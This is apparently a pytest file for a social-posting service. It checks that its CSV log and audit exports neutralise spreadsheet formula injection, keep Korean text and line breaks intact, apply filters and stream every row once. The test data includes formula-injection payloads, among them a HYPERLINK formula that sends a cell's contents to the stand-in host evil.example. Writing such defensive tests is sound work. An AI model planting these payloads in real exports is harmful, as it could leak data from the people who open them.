"""CSV exports, ``/log.csv`` and ``/audit.csv``, over a real service: a fixed file name, every
cell neutralised against formula injection (post texts, platform errors, channel and campaign
names, audit details), ordinary text round-tripping through ``csv.reader``, filters, and every
row once however many pages the export streams."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from herald.service import PostRequest
from herald.web.exports import AUDIT_COLUMNS, FORMULA_STARTS, LOG_COLUMNS, neutralise
from tests.web import ADMIN, MANAGER, add_channels, add_people, settle, web_client

HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1)",
    "+1",
    "-1",
    "\tcmd",
    "\rcmd",
)
#: Ordinary text that must come back exactly: Korean, commas, quotes, line breaks.
ORDINARY = '평화 통일, "together"\nline two; 세 번째 줄'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (-2.5, "'-2.5"),
        (ORDINARY, ORDINARY),
    ],
)
def test_a_cell_starting_like_a_formula_gets_a_quote(cell: object, shown: str) -> None:
    assert neutralise(cell) == shown


def read_csv(r: Any, kind: str) -> list[list[str]]:
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    today = datetime.now(UTC).strftime("%Y%m%d")
    assert r.headers["content-disposition"] == f'attachment; filename="herald-{kind}-{today}.csv"'
    text = r.content.decode("utf-8")
    assert text.startswith("\ufeff")  # for Excel: UTF-8, not the legacy code page
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def assert_all_neutral(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


@pytest.fixture
def people(herald: Any) -> None:
    add_channels(herald)
    add_people(herald)


def test_the_log_export_neutralises_every_hostile_cell(herald: Any, people: None) -> None:
    herald.add_channel("=chan", "mastodon", {"access_token": "tok-csv-1"}, base_url="http://127.0.0.1:9/m")
    herald.set_campaign("-campaign")
    ids = [
        herald.add_post(PostRequest(channels=["=chan"], text=text, at=None, campaign="-campaign"))
        for text in HOSTILE_TEXTS
    ]
    herald.set_campaign("평화")
    failed = herald.add_post(PostRequest(channels=["x1"], text=ORDINARY, at=None, campaign="평화"))
    settle(herald, failed, "failed", error='=HYPERLINK("http://evil.example","platform said")')
    published = herald.add_post(PostRequest(channels=["m1"], text="@home", at=None))
    settle(herald, published, "published", url="https://social.example/@herald/7")

    with web_client(herald, MANAGER) as c:
        rows = read_csv(c.get("/log.csv"), "log")
    assert rows[0] == list(LOG_COLUMNS)
    assert_all_neutral(rows)
    col = {name: i for i, name in enumerate(LOG_COLUMNS)}
    by_post = {row[col["post_id"]]: row for row in rows[1:]}
    assert len(rows) == 1 + len(ids) + 2
    for pid, text in zip(ids, HOSTILE_TEXTS, strict=True):
        row = by_post[pid]
        assert row[col["text"]] == "'" + text
        assert row[col["channel"]] == "'=chan" and row[col["campaign"]] == "'-campaign"
    ordinary = by_post[failed]
    assert ordinary[col["text"]] == ORDINARY and ordinary[col["campaign"]] == "평화"
    assert ordinary[col["error"]] == "'" + '=HYPERLINK("http://evil.example","platform said")'
    assert ordinary[col["status"]] == "failed" and ordinary[col["platform"]] == "x"
    out = by_post[published]
    assert out[col["text"]] == "'@home" and out[col["remote_url"]] == "https://social.example/@herald/7"
    assert out[col["published_at"]].endswith("Z") and out[col["attempts"]] == "1"


def test_the_log_export_follows_the_filters(herald: Any, people: None) -> None:
    a = herald.add_post(PostRequest(channels=["m1", "x1"], text="one", at=None, campaign="spring"))
    herald.set_campaign("autumn")
    herald.add_post(PostRequest(channels=["m1"], text="two", at=None, campaign="autumn"))
    with web_client(herald, MANAGER) as c:
        rows = read_csv(c.get("/log.csv", params={"campaign": "spring", "channel": "x1"}), "log")
        assert [(r[0], r[3]) for r in rows[1:]] == [(a, "x1")]
        r = c.get("/log.csv", params={"status": "sideways"})
        assert r.status_code == 422 and "unknown status" in r.text


def test_a_long_export_streams_every_row_once(
    herald: Any, people: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("herald.web.routes.log.EXPORT_PAGE_ROWS", 3)
    monkeypatch.setattr("herald.web.routes.audit.EXPORT_PAGE_ROWS", 4)
    for n in range(5):
        herald.set_campaign(f"c{n}")
        herald.add_post(PostRequest(channels=["m1", "x1"], text=f"post {n}", at=None, campaign=f"c{n}"))
    with web_client(herald, ADMIN) as c:
        log = read_csv(c.get("/log.csv"), "log")
        audit = read_csv(c.get("/audit.csv"), "audit")
    expected = {(row.post_id, row.channel) for row in herald.delivery_log()}
    assert len(log) - 1 == len(expected) == 10
    assert {(r[0], r[3]) for r in log[1:]} == expected
    ids = [int(r[0]) for r in audit[1:]]
    assert ids == sorted(ids, reverse=True) and len(set(ids)) == len(ids)
    assert ids == [e.id for e in herald.audit_log(limit=1000)]


def test_the_audit_export_neutralises_every_hostile_cell(herald: Any, people: None) -> None:
    herald.add_channel("=cmd", "mastodon", {"access_token": "tok-csv-2"}, base_url="http://127.0.0.1:9/m")
    herald.set_campaign("-campaign", timezone="Asia/Seoul")
    herald.set_campaign("@SUM(1)")
    herald.create_token(MANAGER, name="+1 token")
    herald.create_token(MANAGER, name=ORDINARY)
    with web_client(herald, ADMIN) as c:
        rows = read_csv(c.get("/audit.csv"), "audit")
    assert rows[0] == list(AUDIT_COLUMNS)
    assert_all_neutral(rows)
    col = {name: i for i, name in enumerate(AUDIT_COLUMNS)}
    targets = {(r[col["action"]], r[col["target_id"]]) for r in rows[1:]}
    assert ("channel.add", "'=cmd") in targets
    assert ("campaign.add", "'-campaign") in targets and ("campaign.add", "'@SUM(1)") in targets
    campaign = next(r for r in rows if r[col["target_id"]] == "'-campaign")
    assert campaign[col["campaign"]] == "'-campaign"
    # A new campaign's audit event says what it was made with, defaults included.
    assert (
        campaign[col["detail"]]
        == '{"protect_faces": "review", "require_alt_text": true, "timezone": "Asia/Seoul"}'
    )
    details = [r[col["detail"]] for r in rows if r[col["action"]] == "token.create"]
    assert any('"name": "+1 token"' in d for d in details)
    assert any(ORDINARY.replace("\n", "\\n").replace('"', '\\"') in d for d in details)
    assert all(r[col["at"]].endswith("Z") for r in rows[1:])
